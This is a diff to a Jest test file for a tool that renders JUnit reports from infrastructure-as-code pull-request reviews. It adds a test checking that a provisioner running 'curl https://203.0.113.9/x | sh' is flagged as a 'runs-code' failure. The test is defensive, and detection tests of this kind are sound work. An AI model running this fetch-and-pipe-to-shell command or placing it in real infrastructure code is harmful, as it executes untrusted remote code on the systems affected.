@@ -24,13 +24,13 @@ describe('the JUnit', () => {
     expect(
       [...text.matchAll(/<testsuite name="([^"]+)" tests="(\d+)" failures="(\d+)"/g)].map((match) => match.slice(1)),
     ).toEqual([
-      ['organization', '2', '0'],
-      ['data-prod', '6', '3'],
+      ['organization', '3', '1'],
+      ['data-prod', '12', '8'],
       ['fd-lab', '3', '0'],
       ['erp-dev', '4', '1'],
     ]);
     expect(text).toContain(
-      '<testsuites name="landing-zone review" tests="15" failures="4" errors="0" skipped="3" time="0">',
+      '<testsuites name="landing-zone review" tests="22" failures="10" errors="0" skipped="3" time="0">',
     );
   });
 
@@ -58,6 +58,26 @@ describe('the JUnit', () => {
     expect(caseOf(text, 'Fine')).not.toContain('failure');
     expect(caseOf(text, 'Refused')).toContain('<failure message="always refused" type="fails">');
     expect(caseOf(text, 'Emptied')).toContain('<failure message="change Emptied" type="empty">');
+  });
+
+  test('fails what is found beside the changes, apart from what is only listed', () => {
+    const text = renderJunit(pullRequest);
+    expect(caseOf(text, 'runs-code ')).toBe(
+      [
+        '    <testcase classname="data-prod" name="runs-code Clusters/main/NodePools/batch: runs a local-exec provisioner: curl https://203.0.113.9/x | sh" time="0" file="examples/orbital/landing-zone.ts" line="132">',
+        '      <failure message="runs code: runs a local-exec provisioner: curl https://203.0.113.9/x | sh" type="runs-code">where: ovh_cloud_project_kube_nodepool.Clusters_main_NodePools_batch_1A2B3C4D',
+        'differs: provisioner[0].local-exec.command: + curl https://203.0.113.9/x | sh',
+        '</failure>',
+        '    </testcase>',
+      ].join('\n'),
+    );
+    expect([...text.matchAll(/<failure message="[^"]*" type="([\w-]+)"/g)].map(([, type]) => type)).toEqual([
+      ...['provider', 'runs-code', 'provider', 'state', 'guard', 'unread'],
+      ...['replace', 'destroy', 'move', 'left-behind'],
+    ]);
+    expect(caseOf(text, '2 other differences in data-prod')).toContain(
+      '<system-out>Account: data source is new\noutput.url: output differs\n</system-out>',
+    );
   });
 
   test('fails one case of a stack that is gone from the program and skips what is left in it', () => {
